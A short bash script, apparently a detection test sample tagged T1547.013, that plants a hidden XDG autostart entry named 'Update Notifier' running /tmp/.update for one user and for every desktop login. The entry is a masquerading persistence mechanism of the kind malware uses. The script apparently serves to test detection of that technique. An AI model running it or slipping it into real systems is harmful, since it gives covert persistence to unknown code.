#!/bin/bash
# Add an XDG autostart entry for a user and one for every desktop login.
# technique: T1547.013
# expect: xdg-autostart-persistence
set -eu
mkdir -p /home/dev/.config/autostart /etc/xdg/autostart
entry='[Desktop Entry]\nType=Application\nName=Update Notifier\nExec=/tmp/.update\nHidden=true\n'
printf "$entry" > /home/dev/.config/autostart/update-notifier.desktop
printf "$entry" > /etc/xdg/autostart/update-notifier.desktop
